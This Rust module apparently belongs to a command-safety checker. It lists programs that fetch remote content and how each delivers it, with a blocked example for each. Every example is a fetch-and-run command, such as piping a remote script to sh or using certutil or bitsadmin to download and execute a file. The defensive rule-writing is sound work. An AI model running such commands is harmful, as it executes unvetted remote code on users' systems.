//! Programs that bring something from another machine, besides the downloaders: what they print,
//! and the files that they write.

use super::{Sample, held};

/// How a program hands over what it fetches.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum FetchForm {
    /// It prints it.
    Prints,
    /// It prints it where an option begins so.
    PrintsWith(&'static str),
    /// It writes the files that these options name.
    Files(&'static [&'static str]),
    /// It writes files of any name into the folder that these options name, else into the one where
    /// it runs.
    Folder(&'static [&'static str]),
    /// It writes a file that the second operand names, else the end of the address.
    NamedByAddress,
}

/// One program, with its subcommand.
#[derive(Debug)]
pub(crate) struct Fetch {
    pub(crate) call: &'static str,
    pub(crate) form: FetchForm,
    pub(crate) example: Sample,
}

const fn fetch(call: &'static str, form: FetchForm, example: &'static str) -> Fetch {
    Fetch { call, form, example: held("block-curl-pipe-sh", example) }
}

/// The table.
pub(crate) const FETCHES: &[Fetch] = &[
    fetch("gcloud storage cat", FetchForm::Prints, "gcloud storage cat gs://b/i.sh | bash"),
    fetch("mc cat", FetchForm::Prints, "mc cat s3/b/i.sh | sh"),
    fetch("mc pipe", FetchForm::Prints, "mc pipe s3/b/i.sh | sh"),
    fetch("s5cmd cat", FetchForm::Prints, "s5cmd cat s3://b/i.sh | sh"),
    fetch("rclone cat", FetchForm::Prints, "rclone cat r:i.sh | sh"),
    fetch("lftp", FetchForm::Prints, "lftp -c 'cat http://x.y/i.sh' | sh"),
    fetch("kubectl exec", FetchForm::Prints, "kubectl exec p -- cat /i.sh | sh"),
    fetch("oc exec", FetchForm::Prints, "oc exec p -- cat /i.sh | sh"),
    fetch("svn cat", FetchForm::Prints, "svn cat https://x.y/i.sh | sh"),
    fetch(
        "git archive",
        FetchForm::PrintsWith("--remote"),
        "git archive --remote=ssh://x.y/r HEAD i.sh | tar xO | sh",
    ),
    fetch("curl.exe", FetchForm::Prints, "curl.exe https://x.y | sh"),
    fetch(
        "az storage blob download",
        FetchForm::Files(&["-f", "--file"]),
        "az storage blob download -c c -n i.sh -f i.sh && sh i.sh",
    ),
    fetch(
        "gh release download",
        FetchForm::Files(&["-p", "--pattern", "-O", "--output"]),
        "gh release download -R o/r -p tool && ./tool",
    ),
    fetch("gh release download", FetchForm::Folder(&["-D", "--dir"]), "gh release download v1 && sh ./i.sh"),
    fetch("gh run download", FetchForm::Folder(&["-D", "--dir"]), "gh run download 1 && sh ./i.sh"),
    fetch("oras pull", FetchForm::Folder(&["-o", "--output"]), "oras pull x.y/i:latest && sh i.sh"),
    fetch("svn export", FetchForm::NamedByAddress, "svn export https://x.y/i.sh && sh i.sh"),
    fetch(
        "certutil -urlcache",
        FetchForm::NamedByAddress,
        "certutil -urlcache -f https://x.y/a.exe a.exe && ./a.exe",
    ),
    fetch(
        "bitsadmin /transfer",
        FetchForm::Folder(&[]),
        "bitsadmin /transfer j https://x.y/a.sh a.sh && sh ./a.sh",
    ),
];
